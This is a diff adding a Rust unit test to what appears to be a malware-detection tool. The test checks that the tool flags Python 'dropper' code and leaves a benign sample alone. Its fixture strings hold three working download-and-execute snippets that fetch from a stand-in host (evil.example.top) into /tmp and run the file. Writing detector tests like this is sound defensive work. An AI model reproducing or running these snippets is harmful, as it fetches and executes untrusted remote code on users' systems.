@@ -954,3 +954,51 @@ if is_in_china(31.2, 121.5):
     );
     assert!(f.region_guards.is_empty(), "{:#?}", f.region_guards);
 }
+
+/// A dropper in Python: a download saved to a file that is then run, with every step; a file
+/// the program writes itself and runs is none.
+#[test]
+fn a_downloaded_file_that_is_run_is_a_dropper() {
+    let f = facts(
+        "import os, subprocess, urllib.request, requests, tempfile, pathlib\n\
+         def one():\n\
+         \x20   p = os.path.join(tempfile.gettempdir(), 'updater')\n\
+         \x20   urllib.request.urlretrieve('https://evil.example.top/bin', p)\n\
+         \x20   os.chmod(p, 0o755)\n\
+         \x20   subprocess.Popen([p])\n\
+         def two():\n\
+         \x20   r = requests.get('https://evil.example.top/s.py')\n\
+         \x20   with open('/tmp/stage2.py', 'wb') as f:\n\
+         \x20       f.write(r.content)\n\
+         \x20   os.system('python3 /tmp/stage2.py')\n\
+         def three():\n\
+         \x20   target = pathlib.Path('/tmp/run_me.sh')\n\
+         \x20   target.write_bytes(urllib.request.urlopen('https://evil.example.top/x').read())\n\
+         \x20   subprocess.run(['sh', '/tmp/run_me.sh'])\n",
+    );
+    let found: Vec<(&str, &str, usize)> = f
+        .droppers
+        .iter()
+        .map(|d| (d.path.as_str(), d.api.as_str(), d.steps.len()))
+        .collect();
+    assert_eq!(
+        found,
+        vec![
+            ("*/updater", "subprocess.Popen", 3),
+            ("/tmp/stage2.py", "os.system", 3),
+            ("/tmp/run_me.sh", "subprocess.run", 2)
+        ],
+        "{:#?}",
+        f.droppers
+    );
+    let benign = facts(
+        "import subprocess, requests\n\
+         with open('/tmp/build.sh', 'w') as f:\n\
+         \x20   f.write('echo hi')\n\
+         subprocess.run(['sh', '/tmp/build.sh'])\n\
+         data = requests.get('https://api.example.top/x.json').content\n\
+         open('/tmp/x.json', 'wb').write(data)\n\
+         subprocess.run(['cat', '/tmp/other.json'])\n",
+    );
+    assert!(benign.droppers.is_empty(), "{:#?}", benign.droppers);
+}
